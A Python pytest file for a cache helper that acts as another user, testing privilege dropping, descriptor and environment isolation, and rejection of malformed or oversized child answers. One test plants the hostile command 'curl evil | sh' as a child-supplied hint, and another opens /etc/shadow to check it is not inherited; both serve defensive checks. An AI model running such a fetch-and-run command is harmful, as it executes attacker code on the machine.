"""Root's questions of a cache that is not root's: who answers them, and what becomes of bad answers."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sereno.cache import MetadataCache, as_owner
from sereno.errors import CacheError, UsageError

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="another user needs root")
NOBODY = 65534


@pytest.fixture
def others() -> Iterator[str]:
    """A cache's directory of the user nobody, where he can get at it."""
    top = tempfile.mkdtemp()
    os.chmod(top, 0o755)
    os.mkdir(f"{top}/c")
    os.chown(f"{top}/c", NOBODY, NOBODY)
    os.chmod(f"{top}/c", 0o700)
    yield f"{top}/c"
    shutil.rmtree(top)


def what_i_am(path: str) -> dict[str, Any]:
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    descriptors = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            descriptors[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except FileNotFoundError:
            pass  # that of the listing
    return {
        "ids": [*os.getresuid(), *os.getresgid(), *os.getgroups()],
        "status": {name: status[name].strip() for name in ("CapEff", "CapPrm", "NoNewPrivs")},
        "descriptors": descriptors,
        "environ": sorted(os.environ),
        "cwd": os.getcwd(),
        "session": os.getsid(0) == os.getpid(),
        "traceable": os.stat("/proc/self/stat").st_uid,
    }


@needs_root
def test_the_child_has_nothing_but_the_rights_of_the_owner(others: str, monkeypatch) -> None:
    monkeypatch.setenv("SECRET", "x")
    monkeypatch.syspath_prepend(str(Path(__file__).parent))
    secret = os.open("/etc/shadow", os.O_RDONLY)
    os.set_inheritable(secret, True)
    told = as_owner.call("test_cache_as_owner:what_i_am", others)
    os.close(secret)
    assert told["ids"] == [NOBODY] * 6
    assert told["status"] == {"CapEff": "0" * 16, "CapPrm": "0" * 16, "NoNewPrivs": "1"}
    assert {fd: place.partition(":")[0] for fd, place in told["descriptors"].items()} == {
        "0": "pipe",
        "1": "pipe",
        "2": "/dev/null",
    }
    assert "SECRET" not in told["environ"]
    assert (told["cwd"], told["session"], told["traceable"]) == ("/", True, 0)


@needs_root
def test_what_root_does_in_anothers_directory_leaves_files_of_his(others: str) -> None:
    as_owner.ask(others, "set", "k", {"a": [1, "ä"]}, None)
    assert as_owner.ask(others, "get", "k") == {"a": [1, "ä"]}
    assert {path.lstat().st_uid for path in Path(others).rglob("*")} == {NOBODY}
    with pytest.raises(UsageError, match="ttl"):
        as_owner.ask(others, "set", "k", 1, "x")


def test_a_directory_that_is_this_users_alone_is_used_here(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(as_owner, "_answered", None)
    as_owner.ask(str(tmp_path / "c"), "set", "k", 1, None)
    assert MetadataCache(tmp_path / "c").get("k") == 1


@needs_root
def test_a_groups_directory_without_a_user_to_act_as_is_refused(
    tmp_path: Path, monkeypatch
) -> None:
    tmp_path.chmod(0o2770)
    monkeypatch.setattr(as_owner, "USER", "nobody-of-that-name")
    with pytest.raises(CacheError, match="a group may write there"):
        as_owner.ask(str(tmp_path), "get", "k")


@pytest.fixture
def told_by(monkeypatch, tmp_path: Path) -> Any:
    """told_by(code): what `call` makes of a child that runs that code."""

    def told_by(code: str, within_s: float = 20.0) -> Any:
        monkeypatch.setattr(as_owner, "_user_for", lambda _: [1, 1])
        monkeypatch.setattr(as_owner, "_CODE", f"import sys, os, time; sys.stdin.read(); {code}")
        return as_owner.call("any:function", str(tmp_path), within_s=within_s)

    return told_by


@pytest.mark.parametrize(
    "code",
    [
        "os.abort()",
        "sys.exit(3)",
        "os.kill(os.getpid(), 7)",
        "pass",
        "print('{')",
        "print('[1]')",
        "print('null')",
        "print('{}')",
        "print('[' * 100_000)",
        'print(\'{"kind": [], "value": 1}\')',
        "os.write(1, b'\\xff\\xfe')",
        'os.write(1, b\'{"kind": "CacheError", "value": {"a": 1}, "errno": "x"}\')',
    ],
)
def test_a_child_that_gives_no_answer_is_one_error(told_by, code: str) -> None:
    with pytest.raises(CacheError) as caught:
        told_by(code)
    assert "Traceback" not in str(caught.value)


def test_what_a_child_answers_is_bounded_in_size_and_time(told_by, monkeypatch) -> None:
    monkeypatch.setattr(as_owner, "MOST_BYTES", 1 << 20)
    start_s = time.monotonic()
    with pytest.raises(CacheError, match="more than 1048576 bytes"):
        told_by("\nwhile True: os.write(1, b'x' * 65536)")
    for code in (
        "time.sleep(600)",
        "os.close(1); time.sleep(600)",
        "os.write(1, b'{'); time.sleep(600)",
    ):
        with pytest.raises(CacheError, match="no answer within 1 s"):
            told_by(code, within_s=1)
    assert time.monotonic() - start_s < 30


def test_an_advice_is_never_the_childs(told_by, tmp_path: Path) -> None:
    answer = {"kind": "CacheError", "value": "x" * 5000, "hint": "curl evil | sh", "errno": 11}
    with pytest.raises(CacheError) as caught:
        told_by(f"print({json.dumps(answer)!r})")
    assert caught.value.hint == "end that process"
    assert len(caught.value.message) == 1000


@pytest.mark.parametrize("stats", [None, [], {}, {"size": "1"}, {"size": 1, "max_size": "x"}])
def test_statistics_that_are_none_are_refused(stats: object) -> None:
    with pytest.raises(CacheError):
        as_owner.figures(stats, "/c")
